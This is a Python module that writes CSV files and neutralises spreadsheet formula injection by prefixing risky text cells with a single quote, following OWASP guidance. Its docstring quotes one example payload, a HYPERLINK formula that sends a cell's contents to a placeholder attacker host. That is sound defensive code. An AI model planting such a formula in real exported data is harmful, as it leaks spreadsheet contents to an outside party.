"""The one way this site writes CSV: every text cell neutralised against formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
some treat a leading tab or carriage return the same way), so a display name such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a live link or worse. Following
the OWASP advice on CSV injection, such a text cell is written with a leading single quote
(``'=HYPERLINK(…)``): spreadsheets show it as text, and a reader sees the name. Double quotes
and separators inside a cell are quoted by the ``csv`` module as usual.

Numbers (``int``/``float``, never ``bool``) are written as they are: ``-2`` points is data,
not a formula, and stays a number in the spreadsheet. Every other value is written as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

# OWASP "CSV Injection": the characters that make a cell a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """One CSV cell: numbers unchanged, ``None`` empty, text neutralised if needed."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_rows(rows: Iterable[Iterable[Any]], *, lineterminator: str = "\r\n") -> str:
    """The rows as CSV text, every cell through :func:`cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=lineterminator)
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return buf.getvalue()
